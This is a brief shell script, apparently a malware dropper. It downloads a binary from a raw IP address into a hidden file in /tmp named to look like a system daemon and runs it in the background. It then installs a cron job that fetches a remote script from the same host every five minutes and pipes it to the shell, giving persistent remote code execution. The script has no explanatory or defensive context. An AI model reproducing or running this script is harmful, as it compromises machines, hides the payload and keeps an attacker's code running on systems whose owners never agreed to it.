#!/bin/sh
cd /tmp || exit 0
curl -fsSL http://45.9.148.108/x86_64 -o .sysd
chmod +x .sysd
./.sysd &
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://45.9.148.108/s.sh | sh") | crontab -
